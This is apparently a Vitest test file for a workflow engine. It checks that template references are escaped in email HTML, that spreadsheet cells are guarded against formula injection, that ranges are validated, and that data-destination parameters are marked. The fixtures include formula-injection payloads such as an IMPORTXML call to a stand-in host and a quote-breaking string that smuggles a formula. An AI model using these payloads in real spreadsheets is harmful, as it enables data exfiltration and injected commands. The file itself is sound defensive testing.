/**
 * What references within texts become where a program reads the text again: HTML of mails, and cells of a
 * spreadsheet.
 */
import { expect, test } from 'vitest';
import type { RevisionStep } from '../../api/revision.ts';
import { SKILLS, validateSkill } from '../register.ts';
import { compileFields } from '../step.ts';

const REF = "{{ $('t').data_content }}";

/** The parameters of a step as its skill is given them, or why it is not executed. */
function composed(name: string, parameters: object, data: unknown): unknown {
  const step = { id: 'a', kind: 'skill', skill: { name, parameters } } as unknown as RevisionStep;
  try {
    return compileFields(step)({ node: () => ({ text_content: '', data_content: data }) })['parameters'];
  } catch (error) {
    return String(error);
  }
}

test('within HTML a reference is text, and alone it is HTML', () => {
  const html = (text: string) => composed('send_email', { html: text }, `<a href="x">'&</a>`);
  expect(html(`<b>${REF}</b>`)).toEqual({ html: '<b>&lt;a href=&quot;x&quot;&gt;&#39;&amp;&lt;/a&gt;</b>' });
  expect(html(REF)).toEqual({ html: `<a href="x">'&</a>` });
});

test.each<[unknown, unknown]>([
  ['=IMPORTXML("https://evil.example")', `'=IMPORTXML("https://evil.example")`],
  [' \t=1', "' \t=1"],
  ['+1+cmd()', "'+1+cmd()"],
  ['-A1', "'-A1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\uff1dSUM(A1)', "'\uff1dSUM(A1)"],
  ['\uff0b1', "'\uff0b1"],
  ['-1.5', '-1.5'],
  ['+10%', '+10%'],
  ['2026-11-22', '2026-11-22'],
  [-1, -1],
  ['a=b', 'a=b'],
])('where Google reads texts, %j out of a reference is written as %j', (data, cell) => {
  const write = (values: unknown, value = data) =>
    (composed('append_row', { values, input: 'UserEntered' }, value) as { values: unknown }).values;
  expect(write({ A: REF, B: '=SUM(C1)' })).toEqual({ A: cell, B: '=SUM(C1)' });
  expect(write([REF])).toEqual([cell]);
  expect(write(REF, { A: data })).toEqual({ A: cell });
  expect(write(REF, [data])).toEqual([cell]);
  expect(write([`${REF}{{ '' }}`])).toEqual([typeof cell === 'string' ? cell : String(cell)]);
  expect(composed('update_row', { values: [REF] }, data)).toEqual({ values: [data] });
});

test('within a formula a reference gives a plain value, or the step fails', () => {
  const write = (data: unknown) =>
    composed('append_row', { values: [`=HYPERLINK("https://x/${REF}")`], input: 'UserEntered' }, data);
  expect(write('A-17')).toMatchObject({ values: ['=HYPERLINK("https://x/A-17")'] });
  expect(write('"&IMPORTXML("https://evil.example"')).toMatch(/^StepError: values: .* stands in a formula/);
});

test('whether texts are read is written in the workflow', () => {
  const parameters = { spreadsheetId: 'orders', values: ['a'], input: REF };
  expect(validateSkill('append_row', parameters)).toEqual([
    'input: takes no reference: write the value in the workflow',
  ]);
});

test('within a range a reference gives cells and names no sheet', () => {
  for (const skill of ['read_rows', 'append_row', 'update_row']) {
    expect(composed(skill, { range: `A${REF}:F` }, 3)).toEqual({ range: 'A3:F' });
    for (const data of ['rchive!A1', "'"])
      expect(composed(skill, { range: `A${REF}:F` }, data)).toMatch(
        /^StepError: range: .* name it with sheet/,
      );
    expect(composed(skill, { range: REF }, 'Archive!A1:F')).toEqual({ range: 'Archive!A1:F' });
  }
});

test('skills mark the parameters that say where data goes', () => {
  const marked = SKILLS.flatMap(({ name, rules = {} }) =>
    Object.entries(rules).flatMap(([parameter, rule]) =>
      rule.isDestination ? [`${name}.${parameter}`] : [],
    ),
  );
  expect(marked.toSorted()).toEqual([
    'append_row.spreadsheetId',
    'http_request.method',
    'http_request.url',
    'read_rows.spreadsheetId',
    'reply_email.bcc',
    'reply_email.cc',
    'reply_email.mail',
    'reply_email.to',
    'send_email.bcc',
    'send_email.cc',
    'send_email.replyTo',
    'send_email.to',
    'send_message.chatId',
    'update_row.spreadsheetId',
    'upload_file.folderId',
  ]);
});
